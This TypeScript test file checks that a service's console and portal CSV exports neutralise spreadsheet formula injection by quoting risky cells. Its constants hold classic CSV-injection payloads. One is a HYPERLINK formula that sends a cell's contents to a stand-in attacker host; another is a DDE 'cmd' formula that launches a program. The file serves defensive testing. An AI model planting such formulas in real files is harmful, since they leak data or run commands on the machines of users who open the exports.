// Exports are data, not code (docs/decisions.md section 37; OWASP "CSV Injection"): every CSV the
// service writes (the console's orders, the portal's orders and statement) shows a cell that starts
// with =, +, -, @, a tab or a carriage return as text, with a leading single quote. The formulas
// below are the classic examples of that page; merchants and orders are synthetic.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { consoleLogin, cookiesOf } from '../helpers/console.js';
import {
  addRequisite,
  admin,
  createMerchant,
  createOrder,
  type TestMerchant,
} from '../helpers/merchant-client.js';

const PASSWORD = 'a long enough passphrase';
const HYPERLINK = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click")';
const SUM = '@SUM(1+1)*cmd|" /C calc"!A0';
const PLUS = '+1+cmd';
const TAB = '\tTAB=1';
const CR = '\r=1';
const MINUS = '-2+3';

/** Every cell of a CSV answer, parsed as a spreadsheet would read it. */
const cells = (body: string): string[][] => parse(body) as string[][];

describe('CSV exports neutralise formula cells in every export', () => {
  let t: TestApp;
  let merchant: TestMerchant;
  let orderId: string;

  before(async () => {
    t = await startTestApp();
    merchant = await createMerchant(t.app);
    await addRequisite(t.app, { kind: 'phone' });
    const res = await createOrder(t.app, merchant, { order_id: HYPERLINK, client_id: SUM, comment: PLUS });
    assert.equal(res.statusCode, 200, res.body);
    orderId = res.json().id;
    const second = await createOrder(t.app, merchant, { order_id: MINUS, client_id: TAB, comment: CR });
    assert.equal(second.statusCode, 200, second.body);
    await admin(t.app, 'POST', `/admin/merchants/${merchant.id}/ledger-adjustments`, {
      currency: 'RUB',
      amount: '10.00',
      reason: SUM,
    });
  });
  after(() => t.close());

  /** Asserts that no cell of the CSV starts a formula, and that each payload is there, quoted. */
  function assertNeutral(body: string, payloads: string[]) {
    const all = cells(body).flat();
    for (const c of all)
      assert.ok(
        !/^[=+@\t\r]/.test(c) && !/^-(?!\d+(\.\d+)?$)/.test(c),
        `a live formula cell: ${JSON.stringify(c)}`,
      );
    for (const p of payloads) assert.ok(all.includes(`'${p}`), `${JSON.stringify(p)} shown as text`);
  }

  it('the console orders CSV', async () => {
    const username = `csv-${Math.random().toString(36).slice(2, 8)}`;
    await admin(t.app, 'POST', '/admin/operators', { username, role: 'viewer', password: PASSWORD });
    const s = await consoleLogin(t.app, username, PASSWORD);
    const res = await t.app.inject({
      method: 'GET',
      url: `/backoffice/orders.csv?merchant_id=${merchant.id}`,
      headers: { cookie: s.cookie },
    });
    assert.equal(res.statusCode, 200, res.body);
    assert.ok(res.body.includes(orderId), res.body);
    // The console's columns are the portal's (one list): the order id, client id and comment.
    assertNeutral(res.body, [HYPERLINK, SUM, MINUS, TAB]);
  });

  it('the portal orders and statement CSVs', async () => {
    const email = `csv-${Math.random().toString(36).slice(2, 8)}@example.com`;
    const invite = await admin<{ invite_url: string }>(
      t.app,
      'POST',
      `/admin/merchants/${merchant.id}/users`,
      {
        email,
        role: 'accountant',
      },
    );
    const path = new URL(invite.invite_url).pathname;
    const joined = await t.app.inject({
      method: 'POST',
      url: path,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams({ password: PASSWORD }).toString(),
    });
    assert.ok(joined.statusCode < 400, joined.body);
    const login = await t.app.inject({
      method: 'POST',
      url: '/portal/login',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams({
        email,
        password: PASSWORD,
        code: '',
      }).toString(),
    });
    assert.equal(login.statusCode, 303, login.body);
    const cookie = cookiesOf(login);
    const orders = await t.app.inject({ method: 'GET', url: '/portal/orders.csv', headers: { cookie } });
    assert.equal(orders.statusCode, 200, orders.body);
    assertNeutral(orders.body, [HYPERLINK, SUM, PLUS, MINUS, TAB, CR]);
    const statement = await t.app.inject({
      method: 'GET',
      url: '/portal/statement.csv?currency=RUB&from=2020-01-01',
      headers: { cookie },
    });
    assert.equal(statement.statusCode, 200, statement.body);
    assertNeutral(statement.body, [SUM]);
  });
});
